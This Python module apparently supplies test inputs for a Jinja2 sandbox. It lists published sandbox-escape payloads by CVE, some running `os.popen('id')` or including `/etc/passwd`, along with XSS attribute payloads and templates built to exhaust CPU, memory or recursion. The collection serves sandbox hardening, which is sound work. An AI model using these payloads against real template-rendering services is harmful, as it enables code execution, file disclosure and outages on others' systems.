"""Ways out of Jinja2's sandbox, as published, and work without end; each is the text of a block `event`."""

from __future__ import annotations

PUBLISHED = {
    "CVE-2016-10745, str.format": "{{ '{a.__class__.__init__.__globals__}'.format(a=item) }}",
    "CVE-2019-10906, str.format_map": "{{ '{a.__class__}'.format_map({'a': item}) }}",
    "CVE-2024-56326, a stored format": "{% set f = '{0.__class__}'.format %}{{ [item]|map(f)|list }}",
    "CVE-2024-56326, a called format": "{% macro m(f) %}{{ f(item) }}{% endmacro %}{{ m('{0.__class__}'.format) }}",
    "CVE-2025-27516, attr finds format": "{{ ('{0.__class__.__init__.__globals__}'|attr('format'))(item) }}",
    "CVE-2024-22195, attributes of a tag": "{{ {'x onload=alert(1) y': 1}|xmlattr }}",
    "CVE-2024-34064, attributes of a tag": "{{ {'x/onload=alert(1)//': 1}|xmlattr }}",
    "map reaches attributes": "{{ [item]|map(attribute='__class__')|list }}",
    "map calls attr": "{{ [item]|map('attr', '__init__')|list }}",
    "groupby reaches attributes": "{{ [item]|groupby('__class__')|list }}",
    "sort reaches attributes": "{{ [item, item]|sort(attribute='__class__')|list }}",
    "selectattr reaches attributes": "{{ [item]|selectattr('__class__')|list }}",
    "sum reaches attributes": "{{ [item]|sum(attribute='__class__') }}",
    "a frame of a generator": "{% set g = [1]|map('string') %}{{ g.gi_frame.f_globals }}",
    "a frame of a generator by attr": "{% set g = [1]|map('string') %}{{ (g|attr('gi_frame'))|attr('f_builtins') }}",
    "a traceback's frame": "{{ joiner|attr('__call__')|attr('__func__')|attr('__code__') }}",
    "cycler's globals by index": "{{ cycler['__init__']['__globals__']['os']['popen']('id')['read']() }}",
    "the context's environment": "{{ self._TemplateReference__context.environment }}",
    "the loop's context": "{% for x in [1] %}{{ loop.__class__.__init__.__globals__ }}{% endfor %}",
    "a macro's environment": "{% macro m() %}{% endmacro %}{{ m._environment.loader }}",
    "a macro's function": "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
    "caller's globals": "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{% call m() %}x{% endcall %}",
    "a changed list": "{% set l = [1] %}{{ l.append(2) }}{{ l }}",
    "a changed dictionary": "{% set d = {} %}{{ d.update({'a': 1}) }}{{ d }}",
    "eval by name": "{{ __builtins__['eval']('1') }}",
    "import by name": "{{ __import__('os').popen('id').read() }}",
    "a file": "{% include '/etc/passwd' %}",
    "a loader": "{% extends '/etc/passwd' %}",
    "an extension's tag": "{% do os.system('id') %}",
    "debug": "{% debug %}",
}

LOOP, END = "{% for i in range(99999) %}", "{% endfor %}"
ENDLESS = {
    "loops in loops": LOOP * 3 + END * 3,
    "a condition never reached": LOOP * 2 + "{% if loop.index > 99999 %}x{% endif %}" + END * 2,
    "text without end": LOOP * 2 + "x" * 100 + END * 2,
    "memory without end": "{% set x %}" + LOOP * 2 + "x" * 100 + END * 2 + "{% endset %}{{ x }}",
    "text that doubles": (
        "{% set ns = namespace(x='aaaaaaaa') %}{% for i in range(60) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}"
        "{{ ns.x }}"
    ),
    "a macro that calls itself": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "brackets in brackets": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "lists in lists": "{{ [" + "range(99999)|list," * 4000 + "] }}",
}
